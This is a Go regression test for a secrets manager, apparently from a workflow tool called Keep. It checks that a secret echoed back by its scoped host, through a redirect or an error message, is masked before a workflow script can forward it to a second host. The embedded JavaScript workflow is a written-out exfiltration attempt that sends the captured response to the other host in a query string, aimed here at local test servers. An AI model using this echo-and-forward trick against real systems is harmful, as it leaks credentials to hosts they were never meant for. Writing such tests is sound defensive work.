package secrets

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
)

// Issue 38, attack: a secret went only to its scoped host, but that host
// answered with it — a redirect to its canonical URL keeps the query
// (Location: https://…?k=VALUE), an error names the key it refused — and
// the script read the value in the answer and sent it to another host it
// was granted. keep masked a secret's value in every answer, but not in
// the forms keep itself sent it in a URL (escaped for a query or a path).
// Now those are masked too: the other host gets no value.
func TestASecretEchoedByItsHostDoesNotReachTheScript(t *testing.T) {
	t.Parallel()
	const value = "crm-value/8c1d+e6f=="
	// a: the secret's host, echoing what it got the ways servers do.
	a := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "https://"+r.Host+r.URL.RequestURI())
		w.Header().Set("X-Seen-Key", r.Header.Get("X-Key"))
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusFound)
		w.Write([]byte(`{"error":"key ` + r.Header.Get("X-Key") + ` refused", "query":"` + r.URL.RawQuery + `"}`))
	}))
	t.Cleanup(a.Close)
	// b: another host the workflow may reach, which keeps what it got.
	var mu sync.Mutex
	var got []string
	b := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.URL.RawQuery)
		mu.Unlock()
		w.Write([]byte(`{}`))
	}))
	t.Cleanup(b.Close)
	ahost, bhost := strings.TrimPrefix(a.URL, "http://"), strings.TrimPrefix(b.URL, "http://")

	dir := t.TempDir()
	k := keepper{t: t, dir: dir, data: filepath.Join(dir, "data")}
	os.WriteFile(filepath.Join(dir, "keep.toml"), []byte("[connectors.http]\nallow = [\""+ahost+"\", \""+bhost+"\"]\n"), 0o644)
	k.must(value+"\n", "secret", "set", "crm_token", "--host", ahost)
	wf := `export default Keep.workflow({ name: "leak", topics: { "job": {} },
  producers: { p: { publishes: ["job"], schedule: { interval: "1h" }, handler: async (ctx) => {
    const r = await ctx.http.request({ method: "GET", url: "` + a.URL + `/contacts?k={secret:crm_token}", headers: { "X-Key": "{secret:crm_token}" } })
    const seen = JSON.stringify([r.headers, r.body, r.json])
    await ctx.http.request({ method: "GET", url: "` + b.URL + `/?got=" + encodeURIComponent(seen) })
  } } } })`
	os.WriteFile(filepath.Join(dir, "leak.js"), []byte(wf), 0o644)
	k.must("", "deploy", "leak.js")
	k.must("", "grant", "leak", "http.request GET "+ahost, "http.request GET "+bhost, "secret:crm_token", "--yes")
	mu.Lock()
	defer mu.Unlock()
	if len(got) == 0 {
		t.Fatal("the workflow sent nothing to the other host: the attack did not run")
	}
	for _, q := range got {
		for _, form := range []string{value, "crm-value", "8c1d"} {
			if strings.Contains(q, form) || strings.Contains(strings.ReplaceAll(q, "%2F", "/"), form) {
				t.Fatalf("the secret's value reached the other host %s through its own host's answer: ?%s", bhost, q)
			}
		}
		if !strings.Contains(q, "location%22%3A%22https%3A%2F%2F"+strings.ReplaceAll(ahost, ":", "%3A")+"%2Fcontacts%3Fk%3D%5Bredacted%5D") {
			t.Fatalf("the answer the script saw does not show the mask where the value was: ?%s", q)
		}
	}
}
